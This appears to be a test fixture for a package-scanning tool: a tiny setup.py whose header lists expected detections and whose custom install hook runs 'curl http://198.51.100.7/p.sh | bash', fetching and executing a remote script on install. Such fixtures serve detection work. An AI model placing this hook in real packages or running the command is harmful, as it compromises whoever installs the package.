# expect: 8 command-downloads, 9 install-hook
from setuptools import setup
from setuptools.command.install import install
import os
class Post(install):
    def run(self):
        install.run(self)
        os.system('curl http://198.51.100.7/p.sh | bash')
setup(name='x', cmdclass={'install': Post})
